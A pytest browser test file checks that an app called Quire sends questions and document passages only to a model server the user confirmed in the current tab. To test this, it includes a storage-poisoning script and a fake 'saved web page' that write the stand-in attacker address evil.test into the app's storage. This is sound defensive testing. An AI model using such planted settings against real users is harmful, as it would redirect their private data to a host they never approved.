"""Privacy in real Chromium: data only goes to a model server the person confirmed in this tab.

The "remote" server is the Ollama stub on 127.0.0.1, reached by the name ``evil.test``
(Chromium's ``--host-resolver-rules``), so by its address it is another computer, and
whatever reaches it is recorded.  Another page writes that address into Quire's storage
(localStorage and IndexedDB, with every forged "confirmation" it can think of) the way a
saved web page on file:// can; after a reload nothing may go there until the person
clicks "Use this server" in the page.
"""

import json
import shutil

import pytest

from conftest import CHROMIUM, CHROMIUM_ARGS, PageLog, wait_ready
from ollama_server import OllamaStub
from test_llm_loopback import CASES

pytestmark = pytest.mark.browser

BIO = "# Cells\nMitochondria make ATP for the cell. Mitosis makes two identical cells."
DEFAULT = "http://127.0.0.1:11434"

# What another page does: write the server address (and every switch and "confirmation" it can)
# into the storage it shares with Quire.
PLANT = """async ([url, origin]) => {
    localStorage.setItem('quire.llm.url', url);
    localStorage.setItem('quire.allowUrlFetch', '1');
    sessionStorage.setItem('quirePrivacy', JSON.stringify({server: origin, urlFetch: true}));
    history.replaceState({quirePrivacy: {server: origin, urlFetch: true}}, '', location.href);
    const db = await new Promise((ok, fail) => {
        const r = indexedDB.open('quire.library'); r.onsuccess = () => ok(r.result); r.onerror = () => fail(r.error); });
    if (db.objectStoreNames.contains('settings')) {
        await new Promise((ok, fail) => {
            const t = db.transaction('settings', 'readwrite');
            t.objectStore('settings').put(JSON.stringify({url, kind: 'ollama', chat_model: 'qwen3:4b', embed_model: '',
                                                          temperature: 0.2, num_ctx: 8192}), 'llm');
            t.oncomplete = ok; t.onerror = () => fail(t.error); });
    }
    db.close();
    return 'planted';
}"""

ASK = """async (question) => {
    const r = await quire.ask(question);
    return {mode: r.mode, answer: r.answer, events: r.events.filter(e => e.type === 'connection')};
}"""

CSP = "() => [...document.querySelectorAll('meta[http-equiv=\"Content-Security-Policy\"]')].map(m => m.content)"


@pytest.fixture(scope="module")
def evil_browser(playwright_instance):
    b = playwright_instance.chromium.launch(
        executable_path=CHROMIUM, args=CHROMIUM_ARGS + ["--host-resolver-rules=MAP evil.test 127.0.0.1"])
    yield b
    b.close()


@pytest.fixture
def ctx(evil_browser):
    c = evil_browser.new_context()
    yield c
    c.close()


@pytest.fixture
def remote():
    """The stub, and the address that names it as another computer."""
    s = OllamaStub(origins="*").start()
    s.remote = f"http://evil.test:{s.port}"
    yield s
    s.stop()


def open_quire(ctx, url, log):
    page = log.attach(ctx.new_page())
    page.set_default_timeout(90_000)
    page.goto(url)
    wait_ready(page)
    return page


def train(page):
    page.evaluate("async (text) => { await quire.stage({name: 'Biology.md', text}); await quire.train(); }", BIO)


def reload(page):
    page.reload()
    return wait_ready(page)


def assert_locked(page, remote, log):
    """Nothing may reach the planted server: not in the CSP, not from the engine, not from the page."""
    assert not any("evil.test" in c for c in page.evaluate(CSP))
    assert not any(" http: https:" in c.split("connect-src")[-1] for c in page.evaluate(CSP)[1:])
    banner = page.get_by_test_id("server-banner")
    banner.wait_for(state="visible")
    assert remote.remote in banner.inner_text() and "Nothing has been sent there" in banner.inner_text()
    status = page.evaluate("quire.llmStatus()")
    assert status["status"] == "unconfirmed" and remote.remote in status["message"]
    r = page.evaluate(ASK, "What makes ATP?")
    assert r["mode"] == "extractive" and "Mitochondria" in r["answer"]
    assert r["events"][0]["status"] == "unconfirmed" and remote.remote in r["events"][0]["message"]
    assert "Use this server" in r["events"][0]["fix"]
    pulled = page.evaluate("quire.pullModel('qwen3:4b').then(() => 'pulled', e => e.message)")
    assert "did not contact " + remote.remote in pulled
    assert not [e for e in page.evaluate("quire.networkLog()") if "evil.test" in e["url"]]
    # The page itself cannot reach it either: the CSP stops a script that tries.
    blocked = page.evaluate("(u) => fetch(u + '/api/version').then(() => 'reached', e => 'blocked')", remote.remote)
    assert blocked == "blocked"
    refused = page.evaluate("(u) => quire.stage(u + '/page.html').then(() => 'staged', e => e.message)", remote.remote)
    assert "switched off" in refused
    assert remote.requests == []
    assert not [e for e in log.errors if "Content Security Policy" not in e and "Failed to fetch" not in e]


def confirm_in_page(page):
    # The new document's load, not any navigation: remembering the confirmation rewrites this
    # document's history entry first (csp.js, history.replaceState), which Playwright also counts
    # as one, and then the checks ran on the page before the reload.
    with page.expect_event("domcontentloaded"):
        page.get_by_test_id("server-use").click()
    return wait_ready(page)


SEEN = """() => ({csp: [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map(m => m.content),
  state: history.state, stored: localStorage.getItem('quire.llm.url'), pending: QuirePrivacy.pending,
  navigation: performance.getEntriesByType('navigation').map(e => e.type)})"""


def assert_used(page, remote, origin_header):
    seen = page.evaluate(SEEN)
    assert any(remote.remote in c for c in seen["csp"][1:]), seen
    remote.enqueue_chat(["Mitochondria make ATP [1]."])
    r = page.evaluate(ASK, "What makes ATP?")
    assert r["mode"] == "llm" and "ATP" in r["answer"]
    chats = [q for q in remote.requests if q.path == "/api/chat" and q.method == "POST"]
    assert chats and chats[-1].headers["Host"] == f"evil.test:{remote.port}" and chats[-1].origin == origin_header
    assert "Mitochondria" in json.dumps(chats[-1].body)


def test_a_planted_server_is_not_used_until_confirmed_over_http(ctx, built_dist, serve, remote, page_log):
    url = serve(built_dist).url
    page = open_quire(ctx, url, page_log)
    train(page)
    # Another page of this origin (here Quire's own icon, opened in a second tab) writes the storage.
    other = ctx.new_page()
    other.goto(url + "assets/quire.svg")
    assert other.evaluate(PLANT, [remote.remote, remote.remote]) == "planted"
    other.close()
    reload(page)
    assert_locked(page, remote, page_log)
    page.goto(url + "#privacy")
    state = page.get_by_test_id("privacy-server-state")
    state.wait_for()
    assert state.get_attribute("data-state") == "unconfirmed" and remote.remote in state.inner_text()
    assert page.get_by_test_id("privacy-url-fetch").get_attribute("data-state") == "off"

    confirm_in_page(page)
    assert page.get_by_test_id("server-banner").is_hidden()
    assert_used(page, remote, url.rstrip("/"))
    # Moving between views and reloading keeps the confirmation in this tab ...
    page.evaluate("location.hash = '#settings'")
    page.wait_for_function("location.hash === '#settings' && history.state && history.state.quirePrivacy")
    reload(page)
    assert any(remote.remote in c for c in page.evaluate(CSP)[1:])
    assert page.evaluate("quire.llmStatus()")["status"] == "connected"
    # ... but a new tab has to ask again: storage alone never admits the server.
    other = open_quire(ctx, url, PageLog())
    assert not any("evil.test" in c for c in other.evaluate(CSP))
    assert other.evaluate("quire.llmStatus()")["status"] == "unconfirmed"
    # Switching back needs no reload: this computer's server is always allowed.
    other.get_by_test_id("server-local").click()
    other.get_by_test_id("server-banner").wait_for(state="hidden")
    assert other.evaluate("quire._call('llmSettings')")["url"] == DEFAULT
    assert other.evaluate("localStorage.getItem('quire.llm.url')") == DEFAULT


def test_settings_says_where_data_goes_and_needs_a_tick_naming_the_host(ctx, built_dist, serve, remote, page_log):
    url = serve(built_dist).url
    page = open_quire(ctx, url + "#settings", page_log)
    host = f"evil.test:{remote.port}"
    page.get_by_test_id("llm-url").fill(remote.remote)
    warning = page.get_by_test_id("llm-remote-warning")
    warning.wait_for()
    assert f"Questions and passages will be sent to {host}." in warning.inner_text()
    page.get_by_test_id("llm-save").click()
    toast = page.get_by_test_id("toast").filter(has_text="Not saved")
    toast.wait_for()
    assert host in toast.inner_text()
    assert page.evaluate("quire._call('llmSettings')")["url"] == DEFAULT
    scripted = page.evaluate("(u) => quire.saveSettings({url: u}).then(() => 'saved', e => e.message)", remote.remote)
    assert f"would be sent to {remote.remote}, which is not this computer" in scripted
    # Back to this computer's address: the warning goes away.
    page.get_by_test_id("llm-url").fill("http://0x7f.1:11434")
    warning.wait_for(state="hidden")

    page.get_by_test_id("llm-url").fill(remote.remote)
    page.get_by_test_id("llm-remote-confirm").check()
    assert "Send my questions and passages to " + host in warning.inner_text()
    page.get_by_test_id("llm-save").click()
    page.get_by_test_id("llm-reload").wait_for()
    assert remote.requests == []  # saved, but this page's lock still only allows this computer
    with page.expect_navigation():
        page.get_by_test_id("llm-reload").get_by_role("button").click()
    wait_ready(page)
    assert any(remote.remote in c for c in page.evaluate(CSP)[1:])
    status = page.evaluate("quire.llmStatus()")
    assert status["status"] == "connected" and remote.remote == status["url"]
    assert "/api/version" in remote.paths("GET")


def test_a_saved_web_page_on_file_cannot_redirect_quire(ctx, built_dist, remote, tmp_path, page_log):
    quire_dir = shutil.copytree(built_dist, tmp_path / "usb" / "quire")
    evil = tmp_path / "Downloads" / "recipes.html"
    evil.parent.mkdir()
    # A "saved web page": it writes everything it can, then opens Quire in the same tab.
    evil.write_text("<!doctype html><title>Recipes</title><script>(" + PLANT + ")([%s, %s]).then(() => {"
                    "location.href = new URLSearchParams(location.search).get('next'); });</script>"
                    % (json.dumps(remote.remote), json.dumps(remote.remote)))
    quire_url = (quire_dir / "index.html").as_uri()
    page = open_quire(ctx, quire_url, page_log)
    train(page)
    # It writes, then opens Quire.  On a busy machine Chromium sometimes lost what that page
    # had written to localStorage just before it navigated (the Quire page after it never saw
    # it, in 90 s of waiting): it is then no attack, and the page tries again.
    for _ in range(5):
        page.goto(evil.as_uri() + "?next=" + quire_url)
        page.wait_for_url(quire_url)
        wait_ready(page)
        if page.evaluate("localStorage.getItem('quire.llm.url')") == remote.remote:
            break
    else:
        pytest.fail("the saved web page's writes to localStorage never reached Quire in five tries")
    assert_locked(page, remote, page_log)
    page.evaluate("location.hash = '#privacy'")
    note = page.get_by_test_id("privacy-storage-note")
    note.wait_for()
    assert note.get_attribute("data-mode") == "file"
    assert "shares Quire’s storage" in note.inner_text() and "python serve.py" in note.inner_text()
    assert page.get_by_test_id("privacy-server-state").get_attribute("data-state") == "unconfirmed"

    confirm_in_page(page)
    assert_used(page, remote, "null")
    page.evaluate("location.hash = '#privacy'")
    page.get_by_test_id("privacy-server-state").wait_for()
    assert page.get_by_test_id("privacy-server-state").get_attribute("data-state") == "confirmed"


def test_adding_by_address_needs_the_switch_in_this_tab(ctx, built_dist, serve, page_log):
    url = serve(built_dist).url
    page = open_quire(ctx, url + "#settings", page_log)
    page.evaluate("localStorage.setItem('quire.allowUrlFetch', '1')")  # what another page could write
    reload(page)
    assert not any("http: https:" in c for c in page.evaluate(CSP)[1:])
    assert not page.get_by_test_id("allow-url-fetch").is_checked()
    page.get_by_test_id("allow-url-fetch").check()
    reload(page)
    assert page.evaluate(CSP)[1].endswith(" http: https:")
    assert page.get_by_test_id("allow-url-fetch").is_checked()
    page.evaluate("location.hash = '#privacy'")
    page.get_by_test_id("privacy-url-fetch").wait_for()
    assert page.get_by_test_id("privacy-url-fetch").get_attribute("data-state") == "on"


@pytest.fixture(scope="module")
def csp_page(browser, built_dist):
    page = browser.new_page()
    page.goto("about:blank")
    page.add_script_tag(path=str(built_dist / "assets" / "csp.js"))
    yield page
    page.close()


@pytest.mark.parametrize("url, loopback, origin", CASES)
def test_the_page_reads_addresses_like_the_engine(csp_page, url, loopback, origin):
    got = csp_page.evaluate("(u) => [QuirePrivacy.isLoopback(u), QuirePrivacy.origin(u)]", url)
    assert got == [loopback, origin]
